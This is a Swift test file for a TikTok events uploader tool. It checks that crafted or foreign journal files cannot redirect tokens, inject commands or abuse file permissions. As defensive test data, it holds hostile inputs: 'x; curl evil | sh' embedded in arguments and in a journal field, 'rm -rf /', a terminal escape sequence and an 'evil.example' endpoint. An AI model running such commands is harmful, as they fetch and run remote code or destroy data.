import Foundation
import Testing

@testable import tiktok_events

/// A journal that another user wrote, or may read.
@Suite(.serialized) struct JournalTrustTests {
    private typealias Crafted = CraftedJournal

    @Test func aTokenGoesNowhereJustBecauseAJournalSaysSo() throws {
        let server = try LoopbackServer()
        let journal = try TemporaryFile(
            Crafted.header(endpoint: server.url) + Crafted.pending("a1") + Crafted.complete
        )
        let run = try ToolProcess(["resend", journal.path]).result()
        #expect(run.status == 2)
        #expect(run.errors.contains("the journal names the server \(server.url), but a journal doesn't decide where"))
        #expect(run.errors.contains("pass --endpoint \(server.url)\n"))
        #expect(server.counts.isEmpty)
        #expect(try ToolProcess(["resend", "--endpoint", server.url, journal.path]).result().status == 0)
        #expect(server.counts == ["a1": 1])
    }

    @Test(arguments: [
        (["send", "--results", "j", "it's.csv"], "sandbox", "Continue with: TOOL send --results j 'it'\\''s.csv'\n"),
        (["send", "x; curl evil | sh"], "sandbox", "Continue with: TOOL send 'x; curl evil | sh'\n"),
        (["send", "a\u{1B}[8m\n"], "sandbox", "Continue with: TOOL send $'a\\033\\1338m\\012'\n"),
        (
            ["send", "--endpoint", "https://a.example", "x"], "https://a.example",
            "TOOL send --endpoint https://a.example x\n"
        ),
        (["send", "--endpoint", "https://evil.example", "x"], "https://a.example", nil),
        (["send", "--endpoint", "https://evil.example", "x"], "sandbox", nil),
        (["send", "x"], "https://a.example", nil), (["rm", "-rf", "/"], "sandbox", nil),
        (["summary", "x"], "sandbox", nil),
        (["send", "--evil"], "sandbox", nil), ([], "sandbox", nil), (nil, "sandbox", nil),
    ])
    func onlyTheToolsOwnCommandsAreShown(arguments: [String]?, endpoint: String, text: String?) throws {
        let journal = try TemporaryFile(
            Crafted.header(endpoint: endpoint, arguments: arguments) + #"{"run":"send"}"# + "\n"
        )
        let expected = text.map { $0.replacingOccurrences(of: "TOOL", with: ToolProcess.path) }
        let otherwise = "To continue, run the send command that started this journal again.\n"
        let summary = try ToolProcess(["summary", journal.path]).result()
        #expect(summary.output.hasSuffix(expected ?? otherwise))
        #expect(!summary.output.contains("evil.example") && !summary.output.contains("\u{1B}"))
        let resend = try ToolProcess(["resend", "--force", journal.path], token: nil).result()
        #expect(resend.output.hasSuffix(expected ?? otherwise))
    }

    @Test func aCommandInTheTextOfAnOlderJournalIsNotShown() throws {
        let header = Crafted.header().replacingOccurrences(
            of: #""arguments":["send","/data/leads.csv"]"#,
            with: #""command":"tiktok-events send; curl evil | sh""#
        )
        #expect(header.contains("evil"))
        let journal = try TemporaryFile(header + #"{"run":"send"}"# + "\n")
        let summary = try ToolProcess(["summary", journal.path]).result()
        #expect(summary.status == 0)
        #expect(!summary.output.contains("evil"))
    }

    private static func send(_ place: Workplace, to journal: String? = nil) throws -> ToolProcess.Result {
        try ToolProcess(["send", "--results", journal ?? place.journal, place.leads], token: nil).result()
    }

    private static func permissions(_ path: String) throws -> Int {
        try #require(FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int)
    }

    @Test(.enabled(if: geteuid() == 0, "only root can give a file away"))
    func aJournalOfAnotherUserIsRefused() throws {
        let place = try Workplace(leads: 5)
        #expect(try Self.send(place).status == 0)
        let before = try String(contentsOfFile: place.journal, encoding: .utf8)
        #expect(chown(place.journal, 65_534, gid_t.max) == 0)
        for run in [try Self.send(place), try ToolProcess(["resend", place.journal], token: nil).result()] {
            #expect(run.status == 2)
            #expect(run.errors.contains("'\(place.journal)' belongs to another user, so it can't be the journal"))
        }
        #expect(try String(contentsOfFile: place.journal, encoding: .utf8) == before)
    }

    @Test func aJournalWithSeveralNamesIsRefused() throws {
        let place = try Workplace(leads: 5)
        #expect(FileManager.default.createFile(atPath: place.journal, contents: nil))
        try FileManager.default.linkItem(atPath: place.journal, toPath: place.folder + "/other")
        let run = try Self.send(place)
        #expect(run.status == 2)
        #expect(run.errors.contains("'\(place.journal)' is also a file of another name, so it can't be the journal"))
        #expect(try String(contentsOfFile: place.journal, encoding: .utf8).isEmpty)
    }

    @Test func aLinkCreatesNoJournal() throws {
        let place = try Workplace(leads: 5)
        let target = place.folder + "/target"
        try FileManager.default.createSymbolicLink(atPath: place.journal, withDestinationPath: target)
        let run = try Self.send(place)
        #expect(run.status == 2)
        #expect(run.errors.contains("it is a link to a missing file"))
        #expect(!FileManager.default.fileExists(atPath: target))
        // A journal that is reached through a link is fine.
        #expect(try Self.send(place, to: target).status == 0)
        #expect(try Self.send(place).status == 0)
    }

    @Test(arguments: [0o644, 0o660, 0o606])
    func whoMayReadAJournal(mode: Int) throws {
        let place = try Workplace(leads: 5)
        let attributes: [FileAttributeKey: Any] = [.posixPermissions: mode]
        #expect(FileManager.default.createFile(atPath: place.journal, contents: nil, attributes: attributes))
        // Nothing in it is known to others yet.
        let first = try Self.send(place)
        #expect(first.status == 0 && !first.errors.contains("other users"))
        #expect(try Self.permissions(place.journal) == 0o600)
        try FileManager.default.setAttributes(attributes, ofItemAtPath: place.journal)
        let second = try Self.send(place)
        #expect(second.status == 0)
        let command = "chmod 600 \(place.journal)\n"
        #expect(second.errors.contains("other users may read or change this journal; prevent it with: \(command)"))
        #expect(try Self.permissions(place.journal) == mode)
    }
}
